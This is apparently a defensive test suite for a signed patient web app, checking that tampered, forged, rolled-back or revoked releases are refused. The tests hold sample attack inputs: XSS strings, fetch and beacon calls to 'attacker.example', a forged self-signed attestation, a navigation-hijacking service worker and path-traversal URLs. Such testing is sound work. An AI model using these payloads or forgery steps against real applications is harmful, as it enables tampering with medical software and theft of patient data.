// The patient's app against whoever can change what its server sends: a file, a release, its age, its policy, its service
// worker. And what no browser lets a page prevent, held as a fact, so that SECURITY.md stays true.

import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  createRequest,
  decodeManifest,
  encodePageRelease,
  exportPublicKey,
  generateKeyPair,
  type Issuer,
  issueReleaseSigner,
  parseAttestation,
  releaseOf,
  signAttestation,
} from '@vitalseal/certifying-authority';
import type { Identity } from '@vitalseal/protocol';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { AppBench, type Phone } from '../pages/app.fixture.ts';

let bench: AppBench;
let phone: Phone;
let genuine: string;
beforeEach(async () => {
  bench = await AppBench.open();
  genuine = await bench.deploy('1.1.0');
  phone = await bench.phone();
});
afterEach(() => bench.close());

const octets = (bytes: Uint8Array) => `Uint8Array.from(${JSON.stringify([...bytes])})`;

/** Installed, and activated: its card has told it the root. */
async function inUse(): Promise<void> {
  await phone.install();
  const question = `{ ask: 'trust', roots: [${octets(bench.authority.rootCertificate)}] }`;
  expect(await phone.ask(question)).toMatchObject({ update: 'none', rooted: true, version: '1.1.0' });
}

/** What is offered is not let in, and what was there goes on, with the hospital and without. */
async function staysWith(version: string, code: string): Promise<void> {
  expect(await phone.look()).toMatchObject({ update: 'refused', code, version });
  await phone.reopen();
  expect(await phone.shows()).toBe(version);
  bench.front.goAway();
  await phone.reopen();
  expect(await phone.shows()).toBe(version);
}

const scriptOf = (folder: string): string => {
  const name = readdirSync(join(folder, 'assets')).find((file) => /^index-.*\.js$/.test(file));
  if (name === undefined) throw new Error('expected the script of the app');
  return `assets/${name}`;
};

describe('a release', () => {
  test('of which one file was changed on the server is not let in', async () => {
    await inUse();
    const next = await bench.deploy('1.2.0', (folder) =>
      writeFileSync(join(folder, 'assets', 'next-1a2b3c4d.js'), '1'),
    );
    expect(next).toBeDefined();
    bench.front.instead.set('/patient/assets/next-1a2b3c4d.js', { body: 'alert(1)' });
    await staysWith('1.1.0', 'release-changed');
  });

  test('that was repackaged is not let in, whoever signed it', async () => {
    await inUse();
    const repackaged = await bench.build('6.6.6', (folder) =>
      appendFileSync(join(folder, scriptOf(folder)), 'steal()'),
    );
    const manifest = new Uint8Array(readFileSync(join(repackaged, 'release.manifest')));
    const release = await releaseOf(decodeManifest(manifest));
    const serve = (attestation: Uint8Array<ArrayBuffer>) =>
      bench.front.instead.set('/patient/release', {
        body: encodePageRelease({ manifest, attestation, roots: [bench.authority.rootCertificate] }),
      });

    // By the attestation of the release that it was made from.
    serve(await bench.attest(genuine));
    expect(await phone.look()).toMatchObject({ update: 'refused', code: 'release-other', version: '1.1.0' });

    // By an authority that the attacker has made, with the names of the real one.
    const other = await AppBench.open({ authorityName: bench.authorityName });
    serve(await other.attest(repackaged));
    const { code } = await phone.look();
    expect(['untrusted', 'signature-invalid', 'issuer-mismatch']).toContain(code);
    await other.close();

    // By a key that signs itself.
    const keyPair = await generateKeyPair({ extractable: true });
    const own: Issuer = { certificate: bench.authority.authority.issuingCertificate, privateKey: keyPair.privateKey };
    const day = 86_400_000;
    const validity = { notBefore: Date.now() - day, notAfter: Date.now() + day };
    const publicKeySpki = await exportPublicKey(keyPair.publicKey);
    const signer = await issueReleaseSigner({ publicKeySpki, issuer: own, ...validity });
    const sign = async (toBeSigned: Uint8Array<ArrayBuffer>) =>
      new Uint8Array(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, keyPair.privateKey, toBeSigned));
    const issuing = bench.authority.authority.issuingCertificate;
    serve(await signAttestation({ serial: '77', release, issuedAt: Date.now() }, { chain: [signer, issuing], sign }));
    expect(await phone.look()).toMatchObject({ update: 'refused', code: 'signature-invalid' });

    // By somebody whom the authority certified for something else: the hospital itself.
    const hospital: Identity = { role: 'hospital', id: 'broken-into' };
    const { code: invitation } = await bench.authority.authority.invite({
      identity: hospital,
      serverNames: ['localhost'],
    });
    const leaf = await bench.authority.authority.enrol(await createRequest(keyPair, hospital), {
      identity: hospital,
      code: invitation,
    });
    serve(await signAttestation({ serial: '78', release, issuedAt: Date.now() }, { chain: [leaf, issuing], sign }));
    await staysWith('1.1.0', 'purpose-refused');
  });

  test('that is older is not let in, though the authority vouched for it once', async () => {
    await inUse();
    await bench.deploy('1.0.9');
    await staysWith('1.1.0', 'release-older');
  });

  test('that was taken back does not run again where the revocation list is withheld, nor comes in again', async () => {
    await inUse();
    await bench.deploy('1.2.0');
    expect(await phone.look()).toMatchObject({ update: 'ready' });
    await bench.revoke('1.2.0');
    expect(await phone.look()).toMatchObject({ update: 'refused', code: 'revoked' });
    bench.front.instead.set('/crl', 'cut');
    expect(await phone.look()).toMatchObject({ update: 'refused', code: 'revoked', version: '1.1.0' });
    bench.front.instead.clear();
    await bench.revoke('1.1.0');
    expect(await phone.look()).toMatchObject({ update: 'refused', code: 'revoked' });
    bench.front.instead.set('/crl', 'cut');
    await phone.look();
    await phone.reopen();
    expect(await phone.page.textContent('body')).toContain('withdrawn');
    await bench.deploy('1.3.0');
    await phone.reopen();
    expect(await phone.shows()).toBe('1.3.0');
  });

  test('is judged by the card\u2019s root from when the card has said so, also by a service worker that was coming before', async () => {
    await phone.install();
    await bench.deploy('1.2.0', (folder) => appendFileSync(join(folder, 'service-worker.js'), '\n'));
    const list = Promise.withResolvers<void>();
    bench.front.before.set('/crl', list.promise);
    bench.front.asked.length = 0;
    const updated = phone.updateWorker();
    await expect.poll(() => bench.front.asked).toContain('/crl');
    const trusted = phone.ask(`{ ask: 'trust', roots: [${octets(bench.authority.rootCertificate)}] }`);
    // It waits for its turn, or does not: either way it is not forgotten.
    await Promise.race([trusted, new Promise((resolve) => setTimeout(resolve, 500))]);
    list.resolve();
    await Promise.all([updated, trusted]);
    expect(await phone.ask(`{ ask: 'state' }`)).toMatchObject({ rooted: true });
    await phone.reopen();
    expect(await phone.ask(`{ ask: 'state' }`)).toMatchObject({ rooted: true });
  });

  test('is not waited for by an app that is opened', async () => {
    await inUse();
    const never = Promise.withResolvers<void>();
    bench.front.before.set('/patient/release', never.promise);
    bench.front.asked.length = 0;
    void phone.look().catch(() => undefined);
    await expect.poll(() => bench.front.asked).toContain('/patient/release');
    await phone.reopen();
    expect(await phone.shows()).toBe('1.1.0');
  });

  test('is not made of two: the manifest of one and the word for another', async () => {
    await inUse();
    const next = await bench.build('1.2.0');
    const manifest = new Uint8Array(readFileSync(join(next, 'release.manifest')));
    const attestation = await bench.attest(genuine);
    expect(parseAttestation(attestation).release.version).toBe('1.1.0');
    bench.front.instead.set('/patient/release', { body: encodePageRelease({ manifest, attestation, roots: [] }) });
    await staysWith('1.1.0', 'release-other');
  });

  test('is refused if what is offered are bytes of any kind, and the app goes on', async () => {
    await inUse();
    bench.front.instead.set('/patient/release', { body: new Uint8Array(100_000).fill(0x9f) });
    await staysWith('1.1.0', 'release-malformed');
  });
});

describe('in the page that runs', () => {
  beforeEach(inUse);

  test('no script is made from text, inline, by eval or as a worker', async () => {
    const refused = await phone.page.evaluate(`(async () => {
      // Not within the debugger's own call, which may do more than a page.
      await new Promise((resolve) => setTimeout(resolve));
      const refused = {};
      const attempt = (name, work) => { try { work(); refused[name] = false; } catch { refused[name] = true; } };
      attempt('eval', () => { globalThis.eval('globalThis.ran = 1'); });
      attempt('Function', () => { new Function('globalThis.ran = 1')(); });
      attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="ran = 1">'; });
      attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))); });
      attempt('policy', () => { trustedTypes.createPolicy('other', { createScript: (text) => text }); });
      attempt('src', () => { document.createElement('script').src = '/patient/assets/x.js'; });
      const inline = document.createElement('script');
      attempt('text', () => { inline.text = 'globalThis.ran = 1'; document.head.append(inline); });
      const written = new DOMParser;
      attempt('parse', () => { written.parseFromString('<script>1</script>', 'text/html'); });
      return { ...refused, ran: globalThis.ran === 1 };
    })()`);
    expect(refused).toEqual({
      eval: true,
      Function: true,
      innerHTML: true,
      worker: true,
      policy: true,
      src: true,
      text: true,
      parse: true,
      ran: false,
    });
  });

  test('a script that no release names is not loaded, from its own server either', async () => {
    bench.front.instead.set('/patient/assets/evil.js', {
      body: 'globalThis.ran = 1',
      headers: { 'content-type': 'text/javascript' },
    });
    bench.front.asked.length = 0;
    const loaded = await phone.page.evaluate(
      `import('/patient/assets/evil.js').then(() => true, () => false).then((loaded) => [loaded, globalThis.ran === 1])`,
    );
    expect(loaded).toEqual([false, false]);
    expect(bench.front.asked).not.toContain('/patient/assets/evil.js');
  });

  test('nothing is fetched from elsewhere, nor sent there', async () => {
    const sent = await phone.page.evaluate(`Promise.all([
      fetch('https://attacker.example/').then(() => 'sent', () => 'refused'),
      fetch(location.origin.replace(/\\d+$/, '9')).then(() => 'sent', () => 'refused'),
      navigator.sendBeacon('https://attacker.example/') ? 'queued' : 'refused',
    ])`);
    expect(sent).toEqual(['refused', 'refused', expect.any(String)]);
    await expect.poll(() => phone.complaints.join('\n')).toContain('Content Security Policy');
  });

  test('the policy is the one of the release, whatever headers its server sends now', async () => {
    const html = readFileSync(join(genuine, 'index.html'));
    bench.front.instead.set('/patient/', { body: html, headers: { 'content-type': 'text/html' } });
    await phone.page.reload();
    const policy = await phone.page.evaluate(
      `fetch('/patient/index.html').then((answer) => answer.headers.get('content-security-policy'))`,
    );
    const served = await fetch(new URL('/patient/', bench.hospitalUrl));
    const directives = (text: unknown) => String(text).split('; ').toSorted();
    expect(directives(policy)).toEqual(directives(served.headers.get('content-security-policy')));
    expect(directives(policy)).toEqual(expect.arrayContaining(["script-src 'self'", "frame-ancestors 'none'"]));
    expect(directives(policy)).toEqual(
      expect.arrayContaining(["require-trusted-types-for 'script'", 'trusted-types vitalseal']),
    );
  });
});

describe('at the first visit, before anything is verified', () => {
  test('a script that was changed behind the document does not run', async () => {
    const script = scriptOf(genuine);
    const body = `${readFileSync(join(genuine, script), 'utf8')};document.title = 'stolen';`;
    bench.front.instead.set(`/patient/${script}`, { body, headers: { 'content-type': 'text/javascript' } });
    const page = await bench.page();
    await page.goto(phone.url);
    await page.waitForLoadState('networkidle');
    expect(await page.title()).not.toBe('stolen');
  });

  test('an inline script that was put into the document does not run, with the header and without it', async () => {
    const html = readFileSync(join(genuine, 'index.html'), 'utf8');
    const body = html.replace('</body>', `<script>document.title = 'stolen'</script></body>`);
    bench.front.instead.set('/patient/', { body, headers: { 'content-type': 'text/html' } });
    const page = await bench.page();
    await page.goto(phone.url);
    expect(await page.title()).not.toBe('stolen');
  });

  test('whoever answers first is believed: a document without any policy runs what it likes', async () => {
    const body = '<!doctype html><script>document.title = "theirs"</script>';
    bench.front.instead.set('/patient/', { body, headers: { 'content-type': 'text/html' } });
    const page = await bench.page();
    await page.goto(phone.url);
    expect(await page.title()).toBe('theirs');
  });
});

describe('the service worker', () => {
  test('that no release names is not let in, as long as it is ours', async () => {
    await inUse();
    const changed = `${readFileSync(join(genuine, 'service-worker.js'), 'utf8')}\n`;
    bench.front.instead.set('/patient/service-worker.js', {
      body: changed,
      headers: { 'content-type': 'text/javascript' },
    });
    await phone.updateWorker();
    await phone.reopen();
    expect(await phone.shows()).toBe('1.1.0');
  });

  test('of a server that is hostile is taken in by the browser: no page can prevent that', async () => {
    await inUse();
    bench.front.instead.set('/patient/service-worker.js', {
      body: `addEventListener('install', () => skipWaiting());
        addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        addEventListener('fetch', (event) => { if (event.request.mode === 'navigate') event.respondWith(
          new Response('<title>theirs</title>', { headers: { 'content-type': 'text/html' } })); });`,
      headers: { 'content-type': 'text/javascript' },
    });
    await phone.updateWorker();
    // At the next start at the latest.
    await phone.close();
    await phone.start();
    await phone.page.goto(phone.url);
    if ((await phone.page.title()) !== 'theirs') await phone.reopen();
    expect(await phone.page.title()).toBe('theirs');
  });
});

describe('the hospital', () => {
  test('does not serve a build that is not the one that was attested', async () => {
    const changed = await bench.build('1.2.0');
    const attestation = await bench.attest(changed);
    appendFileSync(join(changed, scriptOf(changed)), '\n');
    await bench.serve(changed, attestation);
    const at = (path: string) => fetch(new URL(path, bench.hospitalUrl)).then(({ status }) => status);
    expect([await at('/patient/'), await at('/patient/release'), await at('/healthz')]).toEqual([404, 404, 200]);
    // The attestation of another build.
    await bench.serve(genuine, attestation);
    expect(await at('/patient/')).toBe(404);
  });

  test('serves what it measured, whatever happens to the folder meanwhile', async () => {
    const script = scriptOf(genuine);
    const before = readFileSync(join(genuine, script), 'utf8');
    appendFileSync(join(genuine, script), 'steal()');
    writeFileSync(join(genuine, 'assets', 'evil.js'), '1');
    const served = await fetch(new URL(`/patient/${script}`, bench.hospitalUrl));
    expect(await served.text()).toBe(before);
    expect((await fetch(new URL('/patient/assets/evil.js', bench.hospitalUrl))).status).toBe(404);
    for (const path of ['/patient/..%2frelease.manifest', '/patient/release.manifest', '/patient/%2e%2e/x']) {
      expect((await fetch(new URL(path, bench.hospitalUrl))).status, path).toBeGreaterThanOrEqual(400);
    }
  });
});
